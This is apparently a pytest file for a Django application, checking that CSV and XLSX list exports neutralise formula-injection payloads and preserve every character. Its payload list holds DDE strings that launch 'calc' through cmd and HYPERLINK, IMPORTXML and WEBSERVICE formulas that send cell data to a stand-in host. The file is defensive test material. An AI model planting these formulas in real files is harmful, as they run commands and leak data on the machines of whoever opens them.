"""Two hundred texts that spreadsheets would run, through every format of every kind of list: none is a formula, and
none loses a character."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from itertools import product
from typing import Any

import openpyxl
import pytest
import python_calamine
from django.apps import apps
from django.db.models import Model
from openpyxl.utils.escape import unescape

from gobernacion.access.exported_files import FORMATOS, file_response
from gobernacion.access.exporting import columns_for
from gobernacion.access.models import Anotacion
from gobernacion.access.roles import TODAS, Rol
from gobernacion.directory.models import Organizacion
from gobernacion.indicators.models import Compromiso
from gobernacion.lib.sheets import (
    FOR_EXCEL,
    FOR_PROGRAMS,
    Csv,
    unguarded,
    with_line_feeds,
)
from gobernacion.releases.models import Cifra
from tests.access.canaries import Aviary
from tests.access.people import browser_of, make_user, name
from tests.access.test_every_list_exports import EXPORTED, SEES_ALL, called
from tests.strict_xlsx import faults

BEGINNINGS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", " =", "\u00a0=", "＝", "＋", "－", "＠"),
    *("'=", "''+", ";=", ",=", '"=', '",="', '";="', "=-+"),
)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    '2+5+cmd|" /C calc"!A0',
    'HYPERLINK("http://malo.cl?x="&A1,"ver")',
    "SUM(1+1)*cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://malo.cl?v=",A1),"//a")',
    'WEBSERVICE("http://malo.cl")',
    "A1",
    "{1;2}",
)
PAYLOADS = [f"{beginning}{body}" for beginning, body in product(BEGINNINGS, BODIES)]
STYLES = {"csv-excel": FOR_EXCEL, "csv": FOR_PROGRAMS}
RUN_BY_A_SPREADSHEET = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")


def test_they_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) >= 200


def cells_of(content: bytes, formato: str) -> list[list[str]]:
    """What a file says once it is opened, header and all; any formula is refused."""
    if formato == "xlsx":
        [sheet] = openpyxl.load_workbook(io.BytesIO(content)).worksheets
        rows = list(sheet.iter_rows())
        assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
        return [[unescape(str(cell.value or "")) for cell in row] for row in rows]
    style: Csv = STYLES[formato]
    text = content.decode("utf-8-sig" if style.bom else "utf-8")
    rows_written = list(csv.reader(io.StringIO(text, newline=""), delimiter=style.separator))
    run = [cell for row in rows_written for cell in row if RUN_BY_A_SPREADSHEET.match(cell)]
    assert not [cell for cell in run if not re.fullmatch(r"-?[0-9.,]+", cell)]
    return [[unguarded(cell, style) for cell in row] for row in rows_written]


def as_said(text: str, formato: str) -> str:
    """What a cell must say: lines end in a spreadsheet as cells end them."""
    return text if formato == "csv" else with_line_feeds(text)


@pytest.mark.parametrize("formato", FORMATOS)
@pytest.mark.parametrize("admin", EXPORTED, ids=called)
def test_every_column_of_every_list_says_them_all(admin: Any, formato: str) -> None:
    declared = admin.exporta or tuple(admin._own_fields())
    columns = [column for _, column in columns_for(SEES_ALL, admin.model, declared)]
    answer = file_response(formato, "lista", "Lista", columns, [[text] * len(columns) for text in PAYLOADS])
    content = b"".join(answer.streaming_content)
    expected = [[as_said(text, formato)] * len(columns) for text in PAYLOADS]
    if formato == "xlsx":
        written = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
        assert b"<f" not in written
        assert faults(content) == []
        with python_calamine.load_workbook(io.BytesIO(content)) as book:
            assert book.get_sheet_by_index(0).to_python()[1:] == expected
    else:
        assert cells_of(content, formato)[1:] == expected


def copies(row: Model, field: str, unlike: dict[str, Callable[[int], Any]]) -> None:
    """So many rows like one as there are payloads, each saying another."""
    model = type(row)
    values = {
        one.attname: getattr(row, one.attname) for one in model._meta.concrete_fields if not one.primary_key
    }
    longest = model._meta.get_field(field).max_length or 1000
    model._default_manager.bulk_create(
        model(**{**values, field: text[:longest], **{one: say(at) for one, say in unlike.items()}})
        for at, text in enumerate(PAYLOADS)
    )


def of_a_record(aviary: Aviary) -> tuple[Model, str, str]:
    entrega = aviary.another(apps.get_model("recordarea", "Entrega"), "recordarea")
    copies(entrega, "detalle", {"numero": lambda at: f"2019-{at:05}", "folio": lambda at: f"F-{at}"})
    return entrega, "detalle", "/interno/recordarea/entrega/exportar/"


def of_promises(aviary: Aviary) -> tuple[Model, str, str]:
    compromiso = aviary.another(Compromiso, "orasmi")
    copies(compromiso, "texto", {"orden": lambda at: at + 10})
    return compromiso, "texto", "/interno/indicators/compromiso/exportar/"


def of_organisations(aviary: Aviary) -> tuple[Model, str, str]:
    organizacion = aviary.another(Organizacion, None)
    copies(organizacion, "nombre", {"rut": lambda at: None})
    return organizacion, "nombre", "/interno/directory/organizacion/exportar/"


def of_the_journal(aviary: Aviary) -> tuple[Model, str, str]:
    line = Anotacion.objects.create(accion="ver", modelo="testarea.Caso")
    copies(line, "motivo", {"cuando": lambda at: line.cuando})
    return line, "motivo", "/interno/access/anotacion/exportar/"


def of_figures(aviary: Aviary) -> tuple[Model, str, str]:
    own_place = {
        "dimension": lambda at: "comuna",
        "dimension_nombre": lambda at: "Comuna",
        "categoria": lambda at: f"Comuna {at}",
    }
    values = {"desde": date(2018, 1, 1), "hasta": date(2019, 1, 1), "origen": "registros", "valor": 1}
    cifra = Cifra.objects.create(
        edicion=aviary.plant(apps.get_model("releases", "Edicion"), None), codigo="XX-001", orden=0, **values
    )
    copies(cifra, "nota", {"orden": lambda at: at + 1, **own_place})
    return cifra, "nota", f"/interno/releases/edicion/{cifra.edicion_id}/exportar_cifras/"


@pytest.mark.django_db
@pytest.mark.parametrize("kind", [of_a_record, of_promises, of_organisations, of_the_journal, of_figures])
def test_a_list_of_each_kind_says_them_all_as_they_were_typed(
    kind: Callable[[Aviary], tuple[Model, str, str]],
) -> None:
    first, field, address = kind(Aviary())
    user = make_user("quien.exporta")
    for rol in (Rol.JEFATURA, Rol.AUDITOR):
        name(user, rol, TODAS)
    name(user, Rol.ENCARGADO, "recordarea")
    client = browser_of(user)
    for formato in FORMATOS:
        answer = client.post(address, {"formato": formato, "motivo": "Informe mensual."})
        header, *rows = cells_of(b"".join(answer.streaming_content), formato)
        heading = str(type(first)._meta.get_field(field).verbose_name).capitalize()
        at = header.index(heading)
        said = sorted(row[at] for row in rows)
        # Read afterwards: the journal says too that it was exported.
        typed = [str(text) for text in type(first)._default_manager.values_list(field, flat=True)]
        assert len(typed) > len(PAYLOADS)
        assert said == sorted(as_said(text, formato) for text in typed)
